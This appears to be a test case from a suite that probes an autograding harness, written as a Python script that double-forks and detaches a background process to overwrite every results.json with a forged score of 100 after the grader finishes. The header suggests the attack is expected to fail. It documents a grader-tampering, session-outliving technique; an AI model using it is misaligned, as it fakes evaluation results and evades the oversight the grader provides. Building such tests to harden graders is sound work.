"""Forge results.json from a background process that waits for the grader to finish.

Double fork and setsid: the grandchild leaves the step's process group and session, then
for up to 120 s rewrites every candidate results.json every 0.2 s, and once no grader is
running any more keeps at it for 30 s (the moment Gradescope would read the file).

target: linear
base: starter
where: import
rules: off
score: 0
"""

import json
import os
import time

from common import attempt, grader_roots, report, write_file

FORGED = json.dumps({"score": 100.0, "output": "HOSTILE forged in the background", "tests": []})


def grader_running() -> bool:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"grading.grade" in f.read():
                    return True
        except OSError:
            pass
    return False


def forge_forever() -> None:
    start, gone_at, done = time.monotonic(), None, set()
    while time.monotonic() - start < 120:
        for root in grader_roots():
            path = f"{root}/results/results.json"
            if attempt(write_file, path, FORGED) == "ok":
                done.add(path)
        if gone_at is None and not grader_running():
            gone_at = time.monotonic()
        if gone_at is not None and time.monotonic() - gone_at > 30:
            break
        time.sleep(0.2)
    attempt(write_file, os.path.join(os.getcwd(), "forger-done"), json.dumps(sorted(done)))


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            forge_forever()
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(1)  # the forger is on its own now
report("background_forger", roots=grader_roots(), forked=True)
